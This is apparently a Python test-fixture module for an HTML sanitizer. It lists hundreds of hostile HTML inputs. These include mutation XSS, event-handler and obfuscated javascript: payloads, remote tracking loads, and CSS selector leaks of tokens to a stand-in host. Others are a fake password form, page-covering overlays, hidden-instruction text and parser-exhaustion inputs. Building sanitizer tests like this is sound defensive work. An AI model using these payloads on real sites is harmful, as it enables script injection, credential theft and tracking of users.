# ruff: noqa: E501  (one attack a line, as it is sent)
"""HTML that wants to run, to call home, to cover or to restyle. Every piece carries the text "visible" for the reader.

A script that runs calls `ran()` (see RUN); whatever is fetched is on HOST, so a browser test listens for both.
"""

from __future__ import annotations

from collections.abc import Iterator

HOST = "canary.invalid"
RUN = "top.postMessage('ran','*');document.title='ran';alert(1)"
JS = f"javascript:{RUN}"
URL = f"http://{HOST}"
VISIBLE = "<p>visible</p>"

SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script-src": f"<script src='{URL}/a.js'></script>",
    "script-src-no-scheme": f"<script src=//{HOST}/a.js></script>",
    "script-upper": f"<SCRIPT>{RUN}</SCRIPT >",
    "script-unclosed": f"<script>{RUN}",
    "script-slash": f"<script/x>{RUN}</script/x>",
    "script-nested": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-nul": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "script-comment": f"<!--><script>{RUN}</script>-->",
    "script-comment-bang": f"<!--a--!><script>{RUN}</script>",
    "script-conditional": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "script-cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "script-module": f"<script type=module>import '{URL}/m.js'</script>",
    "script-json": '<script type="application/ld+json">{"a":"</script><img src=x onerror=alert(1)>"}</script>',
    "script-attribute-break": f'<a title="</a><script>{RUN}</script>">x</a>',
    "noscript-mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN!r}>"></noscript>',
    "title-mutation": f'<title><a title="</title><img src=x onerror={RUN!r}>"></title>',
    "textarea-mutation": f'<textarea><a title="</textarea><img src=x onerror={RUN!r}>"></textarea>',
    "xmp-mutation": f'<xmp><a title="</xmp><img src=x onerror={RUN!r}>"></xmp>',
    "noembed-mutation": f'<noembed><a title="</noembed><img src=x onerror={RUN!r}>"></noembed>',
    "plaintext": f"<plaintext><script>{RUN}</script>",
    "template": f"<template><script>{RUN}</script><img src=x onerror={RUN!r}></template>",
    "template-shadow": f"<div><template shadowrootmode=open><img src=x onerror={RUN!r}></template></div>",
    "math-style-mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "math-annotation": f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUN!r}></style></annotation-xml></math>",
    "math-href": f"<math href='{JS}'>click</math>",
    "math-maction": f"<math><maction actiontype='statusline#{URL}' xlink:href='{JS}'>click</maction></math>",
    "svg-onload": f'<svg onload="{RUN}">',
    "svg-slash-onload": f'<svg/onload="{RUN}">',
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-script-href": f"<svg><script href='{URL}/s.js'/></svg>",
    "svg-xmlns": f"<svg xmlns='&quot;><img src=x onerror={RUN}>'></svg>",
    "svg-use": f"<svg><use href='data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x'/><use href='{URL}/u.svg#x'/></svg>",
    "svg-animate-href": f"<svg><a><animate attributeName=href values='{JS}'/><text x=9 y=20>click</text></a></svg>",
    "svg-animate-style": f"<svg><rect><animate attributeName=style from='' to='fill:url({URL}/f)'/></rect></svg>",
    "svg-set": f"<svg><set attributeName=onmouseover to='{RUN}'/></svg>",
    "svg-feimage": f"<svg><filter id=f><feImage href='{URL}/fe.png'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    "svg-image": f"<svg><image href='{URL}/i.png' xlink:href='{URL}/i2.png' width=9 height=9 /></svg>",
    "svg-foreignobject": f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe></foreignObject></svg>',
    "svg-style-mutation": f'<svg></p><style><a id="</style><img src=1 onerror={RUN!r}>">',
    "svg-desc-mutation": f"<svg><desc><svg><image><a><desc><svg><image></image></svg></desc><img src=x onerror={RUN!r}>",
    "svg-fill-funciri": f"<svg><rect fill='url({URL}/fill.svg#x)' mask='url({URL}/m)' width=9 height=9 /></svg>",
    "form-mutation": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN!r}>",
    "table-mutation": f'<table><a title="<img src=x onerror={RUN!r}>"><td></a><svg><style><img src=x onerror={RUN!r}>',
    "deep-mutation": "<div>" * 600 + f"<svg><style><img src=x onerror={RUN!r}>",
    "select-mutation": f"<select><option><style></select><img src=x onerror={RUN!r}></style>",
    "custom-element": f'<x-y onclick="{RUN}" is=a-b>click</x-y>',
    "htmx": f'<div hx-get=\'{URL}/h\' hx-trigger=load data-hx-on:load="{RUN}" hx-on::load="{RUN}">htmx</div>',
    "data-behaviour": "<div data-behaviour='reader list keys' data-controller=x id=main class='app reader'>hooks</div>",
    "amp": f"<html amp4email><script async src='{URL}/amp.js'></script><amp-img src='{URL}/a.png' width=1 height=1></amp-img><amp-iframe src='{URL}'></amp-iframe>",
    "dom-clobber": "<a id=htmx></a><img name=body><form name=document><input name=cookie></form><a id=location href=x>x</a>",
    "xml-stylesheet": f"<?xml version='1.0'?><?xml-stylesheet href='{URL}/x.xsl' type='text/xsl'?><p>x</p>",
    "xss-behavior-xml": f"<xml id=x src='{URL}/x.xml'></xml><span datasrc=#x datafld=y dataformatas=html></span>",
}

EVENT_NAMES = (
    "onerror onload onclick onmouseover onfocus onblur onanimationstart onanimationend ontransitionend onbegin onrepeat onend "
    "ontoggle onpointerenter onwheel onscroll onpageshow onhashchange onmessage onbeforeinput oncontentvisibilityautostatechange"
)

EVENTS = {
    name: html
    for event in EVENT_NAMES.split()
    for name, html in [
        (
            f"event-{event}",
            f"<img src=x {event}=\"{RUN}\"><body {event}='{RUN!r}'><b tabindex=1 autofocus {event}={RUN}>b</b>",
        )
    ]
} | {
    "event-no-space": f"<img/src=x/onerror={RUN}>",
    "event-newline": f'<img src=x\nonerror\n=\n"{RUN}">',
    "event-formfeed": f'<img\fsrc=x\fonerror="{RUN}">',
    "event-upper": f'<IMG SRC=x OnErRoR="{RUN}">',
    "event-entities": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "event-backtick": f"<img src=`x` onerror=`{RUN}`>",
    "event-quote-break": f'<img alt="a\'b&quot; onerror=&quot;{RUN}" src=x>',
    "event-double-attribute": f"<img src=x src=y onerror=\"{RUN}\" onerror=''>",
    "event-details": f'<details open ontoggle="{RUN}">x</details>',
    "event-marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "event-video": f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}"></audio>',
    "event-popover": f'<button popovertarget=x>b</button><div id=x popover onbeforetoggle="{RUN}">p</div>',
}

LINKS = {
    f"link-{name}": f'<a href="{href}">click</a><area href="{href}"><iframe src="{href}"></iframe><img src="{href}">'
    for name, href in {
        "javascript": JS,
        "javascript-upper": "JaVaScRiPt:alert(1)",
        "javascript-tab": "java\tscript:alert(1)",
        "javascript-newline": "java\nscript:alert(1)",
        "javascript-entity": "&#106;avascript:alert(1)",
        "javascript-entity-hex": "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
        "javascript-entity-tab": "java&Tab;script&colon;alert(1)",
        "javascript-newline-entity": "java&NewLine;script:alert(1)",
        "javascript-leading": " &#1; \t javascript:alert(1)",
        "javascript-control": "\x01\x02javascript:alert(1)",
        "javascript-comment": f"javascript://{HOST}/%0aalert(1)",
        "javascript-encoded": "javascript:%61%6c%65%72%74(1)",
        "javascript-softhyphen": "java\u00adscript:alert(1)",
        "javascript-bidi": "\u202ejavascript:alert(1)",
        "javascript-fullwidth": "ｊavascript:alert(1)",
        "vbscript": "vbscript:msgbox(1)",
        "livescript": "livescript:alert(1)",
        "mocha": "mocha:alert(1)",
        "data-html": f"data:text/html,<script>{RUN}</script>".replace('"', "&quot;"),
        "data-html-base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data-svg": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=",
        "blob": f"blob:{URL}/x",
        "filesystem": f"filesystem:{URL}/x",
        "view-source": f"view-source:{URL}",
        "file": "file:///etc/passwd",
        "smb": f"\\\\{HOST}\\share",
        "jar": f"jar:{URL}!/x",
        "about": "about:blank",
        "intent": f"intent://{HOST}#Intent;scheme=http;end",
        "no-scheme": f"//{HOST}/x",
        "backslashes": f"\\\\\\{HOST}/x",
        "slash-backslash": f"/\\{HOST}/x",
        "one-slash": f"http:/{HOST}/x",
        "no-slash": f"http:{HOST}/x",
        "relative": "/mail/logout",
        "relative-dot": "../../accounts/logout/",
        "query": "?delete=1",
        "credentials": f"https://bank.example@{HOST}/",
        "punycode": "https://xn--pple-43d.com/",
        "mailto-bomb": "mailto:a@example.org?bcc=b@example.org&amp;attach=/etc/passwd",
        "cid-missing": "cid:not-there@example.org",
        "cid-traversal": "cid:../../logout",
        "mid": "mid:x@example.org",
        "nul": "java\0script:alert(1)",
    }.items()
}

REMOTE = {
    "img": f"<img src='{URL}/a.png' width=1 height=1>",
    "img-srcset": f"<img src=cid:x srcset='{URL}/a.png 1x, {URL}/b.png 2x' sizes=100vw>",
    "img-lowsrc": f"<img src=cid:x lowsrc='{URL}/l' dynsrc='{URL}/d' longdesc='{URL}/ld' usemap='{URL}/#m'>",
    "img-image-tag": f"<image src='{URL}/image.png'>",
    "img-newline": f"<img src='ht\ntp://{HOST}/x'>",
    "img-entity": f"<img src='&#104;ttp://{HOST}/x'>",
    "picture": f"<picture><source srcset='{URL}/p.webp'><img src='{URL}/p.png'></picture>",
    "video": f"<video poster='{URL}/poster.png' src='{URL}/v.mp4' autoplay></video>",
    "audio": f"<audio src='{URL}/a.ogg' autoplay></audio>",
    "track": f"<video><source src='{URL}/s'><track default src='{URL}/t.vtt'></video>",
    "input-image": f"<input type=image src='{URL}/b.png' formaction='{URL}/f'>",
    "body-background": f"<body background='{URL}/bg.png'>x</body>",
    "table-background": f"<table background='{URL}/t.png'><tr background='{URL}/r'><td background=//{HOST}/d>x</table>",
    "link-stylesheet": f"<link rel=stylesheet href='{URL}/c.css'>",
    "link-prefetch": f"<link rel=prefetch href='{URL}/p'><link rel=dns-prefetch href=//{HOST}><link rel=preconnect href='{URL}'>",
    "link-preload": f"<link rel=preload as=image href='{URL}/p' imagesrcset='{URL}/q 1x'><link rel=modulepreload href='{URL}/m'>",
    "link-icon": f"<link rel=icon href='{URL}/i.ico'><link rel=manifest href='{URL}/m'>",
    "link-import": f"<link rel=import href='{URL}/i.html'>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={URL}/r'>",
    "meta-refresh-js": f"<meta http-equiv=refresh content='0;url={JS}'>",
    "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    "meta-dns": "<meta http-equiv=x-dns-prefetch-control content=on>",
    "meta-referrer": "<meta name=referrer content=unsafe-url>",
    "meta-cookie": "<meta http-equiv=set-cookie content='sessionid=1'>",
    "meta-charset-utf7": f"<meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "base": f"<base href='{URL}/' target=_top><a href=x>click</a><img src=rel.png>",
    "base-js": "<base href='javascript:/a/-alert(1)///////'><a href=../lol/safari.html>click</a>",
    "iframe": f"<iframe src='{URL}/f'></iframe>",
    "iframe-srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frameset": f"<frameset><frame src='{URL}/f'></frameset>",
    "object": f"<object data='{URL}/o' type=text/html><param name=src value='{URL}/p'></object>",
    "object-cid": "<object data='cid:x' type='image/svg+xml'></object>",
    "embed": f"<embed src='{URL}/e.swf' allowscriptaccess=always>",
    "applet": f"<applet codebase='{URL}' code=A.class archive='{URL}/a.jar'></applet>",
    "portal": f"<portal src='{URL}/'></portal><fencedframe src='{URL}'></fencedframe>",
    "ping": f"<a href='https://example.org/' ping='{URL}/ping'>click</a>",
    "link-target": "<a href='https://example.org/' target=_top>top</a><a href='https://example.org/' target=_parent rel=opener>parent</a>",
    "download": f"<a href='{URL}/x.exe' download=invoice.pdf>invoice.pdf</a>",
    "bgsound": f"<bgsound src='{URL}/s.wav'>",
    "layer": f"<layer src='{URL}/l'></layer><ilayer src='{URL}/l'></ilayer>",
    "html-manifest": f"<html manifest='{URL}/m.appcache'>x</html>",
    "html-profile": f"<head profile='{URL}/p'></head><q cite='{URL}/q'>q</q><blockquote cite='{URL}/c'>c</blockquote>",
    "vml": f"<v:rect xmlns:v='urn:schemas-microsoft-com:vml'><v:fill src='{URL}/v.png'/></v:rect>",
    "mso-conditional": f"<!--[if mso]><v:image src='{URL}/mso.png'/><![endif]--><![if !mso]><img src='{URL}/n.png'><![endif]>",
    "cid-and-remote": f"<img src='cid:x' style='background:url({URL}/z)'>",
}

STYLES = {
    "css-url": f'<div style="background:url({URL}/a.png)">x</div>',
    "css-url-quoted": f"<div style=\"background-image: url( '{URL}/a.png' )\">x</div>",
    "css-url-escape": f'<div style="background:\\75\\72\\6C({URL}/a.png)">x</div>',
    "css-url-unclosed": f'<div style="background:url({URL}/a.png">x</div>',
    "css-url-comment": f'<div style="background:u/**/rl({URL}/a);background:/**/url(/**/{URL}/b)">x</div>',
    "css-url-no-scheme": f"<div style='background:url(//{HOST}/a)'>x</div>",
    "css-image-set": f"<div style=\"background:image-set('{URL}/a.png' 1x);background:-webkit-image-set(url({URL}/b) 1x)\">x</div>",
    "css-cross-fade": f'<div style="background:cross-fade(url({URL}/a),url({URL}/b),50%);background:image({URL}/c)">x</div>',
    "css-content": f"<style>p::before{{content:url({URL}/c.png)}}</style>",
    "css-cursor": f'<div style="cursor:url({URL}/c.cur),auto">x</div>',
    "css-list": f"<ul style=\"list-style-image:url({URL}/l.png)\"><li style='list-style:url({URL}/m)'>x</ul>",
    "css-border-image": f'<div style="border-image:url({URL}/b.png) 30;mask:url({URL}/m);filter:url({URL}/f#x);clip-path:url({URL}/k)">x</div>',
    "css-import": f"<style>@import '{URL}/i.css';@import url({URL}/j.css);</style>",
    "css-import-escape": f"<style>@\\69mport '{URL}/i.css';@im\\port url({URL}/j.css)</style>",
    "css-font-face": f"<style>@font-face{{font-family:x;src:url({URL}/f.woff2)}}p{{font-family:x}}</style>",
    "css-namespace": f"<style>@namespace '{URL}/n';@charset 'utf-7';@layer a;@property --x{{syntax:'*';inherits:false}}</style>",
    "css-media": f"<style>@media all{{body{{background:url({URL}/m)}}}}@supports (display:grid){{p{{background:url({URL}/s)}}}}</style>",
    "css-expression": f'<div style="width:expression({RUN});width:exp/**/ression({RUN})">x</div>',
    "css-behavior": f'<div style="behavior:url({URL}/x.htc);-moz-binding:url({URL}/x.xml#x)">x</div>',
    "css-javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "css-var": f'<style>:root{{--u:url({URL}/v)}}</style><div style="--x:url({URL}/w);background:var(--u);background:var(--x)">x</div>',
    "css-fixed": '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">cover</div>',
    "css-fixed-important": '<div style="position:fixed !important;top:0;left:0;width:100vw;height:100vh">cover</div>',
    "css-fixed-escape": '<div style="position:\\66ixed;po\\73ition:fixed;top:0">cover</div>',
    "css-absolute": '<div style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px">cover</div>',
    "css-sticky": '<div style="position:sticky;top:0;margin:-500px;transform:scale(100)">cover</div>',
    "css-style-break": f"<style>a{{}}</style/x><script>{RUN}</script></style>",
    "css-style-comment": f"<style><!-- </style><script>{RUN}</script> --></style>",
    "css-selector-leak": f"<style>input[value^=a]{{background:url({URL}/a)}}a[href*=token]{{background:url({URL}/t)}}</style>",
    "css-restyle-app": "<style>body,html,*{display:none!important}.reader{color:red}:host{display:none}:root{--accent:red}</style>",
    "css-scope-escape": "<style>}} body{display:none} @scope (x){p{color:red}} & body{display:none}</style>",
    "css-animation": "<style>@keyframes x{from{left:0}}p{animation:x 1s;transition:all 1s}</style>",
    "css-hidden-text": "<div style='font-size:0;color:#fff;opacity:0;text-indent:-9999px'>hidden instructions</div>",
    "css-huge": "<style>" + "p{color:red}" * 20_000 + "</style>",
    "css-unclosed": f"<style>p{{color:red;background:url({URL}/x",
    "css-deep": "<style>" + "@media all{" * 500 + "p{color:red}" + "}" * 500 + "</style>",
    "css-attr": '<div data-x=red style="color:attr(data-x type(<color>));width:calc(1px*infinity);height:env(x)">x</div>',
    "css-nul": f'<div style="background:u\0rl({URL}/a)">x</div>',
}

FORMS = {
    "form": f"<form action='{URL}/f' method=post><input name=password type=password><button>Sign in</button></form>",
    "form-js": f"<form action='{JS}'><input type=submit></form>",
    "form-formaction": f"<button form=x formaction='{JS}'>b</button><form id=x></form>",
    "form-isindex": f"<isindex action='{JS}' prompt=x>",
    "form-autofocus": f'<input autofocus onfocus="{RUN}"><textarea autofocus></textarea><select autofocus></select>',
    "form-dialog": "<dialog open>Session expired <form method=dialog><input></form></dialog>",
    "form-keygen": f'<keygen autofocus onfocus="{RUN}"><menu contextmenu=x></menu>',
    "accesskey": f"<a accesskey=x href='{JS}' tabindex=1 contenteditable autofocus>click</a>",
    "contenteditable": f'<div contenteditable onpaste="{RUN}">edit</div>',
}

SHAPES = {
    "unclosed": "<b><i><a href=https://example.org><table><tr><td><div><p>never closed",
    "deep-div": "<div>" * 20_000 + "deep",
    "deep-table": "<table><tr><td>" * 2_000 + "deep",
    "deep-blockquote": "<blockquote>" * 5_000 + "deep",
    "deep-font": "<font size=7><b>" * 5_000 + "deep",
    "many-attributes": "<p " + " ".join(f"a{n}=x" for n in range(20_000)) + ">x</p>",
    "long-attribute": "<p title='" + "x" * 1_000_000 + "'>x</p>",
    "many-links": "".join(f"<a href='https://example.org/{n}'>{n}</a> " for n in range(10_000)),
    "many-entities": "&nbsp;&#x202e;&#0;&#xD800;&#1114112;&bogus;&amp;amp;" * 5_000,
    "only-less-than": "<" * 100_000,
    "only-less-bang": "<!" * 50_000,
    "only-comment-open": "<!--" * 50_000,
    "wide-image": "<img src=cid:x width=99999999 height=99999999><hr width=99999999><pre>" + "x" * 100_000 + "</pre>",
    "wide-table": "<table width=999999 height=999999 cellpadding=99999 border=9999><td>x</table><table>"
    + "<td>x" * 5_000,
    "rtl-override": "<p dir=rtl>\u202egnp.exe</p><bdo dir=rtl>abc</bdo>",
    "marquee": "<marquee scrollamount=9999><blink>x</blink></marquee>",
    "two-bodies": "<html><body>one</body></html><html><body>two</body></html>",
    "empty-html": "<html><head></head><body></body></html>",
    "only-style": "<style>p{color:red}</style>",
    "not-html": "This is plain text & says it is <HTML> 1 < 2",
    "utf16-meta": "<meta charset=utf-16><p>hé</p>",
    "bom": "\ufeff<p>bom</p>",
    "dark-scheme": "<meta name=color-scheme content=dark><body bgcolor=black text=black><font color=black>black on black</font>",
    "outlook": "<o:p></o:p><xml><w:WordDocument></w:WordDocument></xml><p class=MsoNormal style='mso-line-height-rule:exactly'>word</p>",
}


def html_attacks() -> Iterator[tuple[str, str]]:
    """(name, HTML) of every attack; each holds the word "visible", which a reader must see (but for shapes that hide it)."""
    for group in (SCRIPTS, EVENTS, LINKS, REMOTE, STYLES, FORMS, SHAPES):
        for name, html in group.items():
            yield f"html-{name}", f"{VISIBLE}{html}"
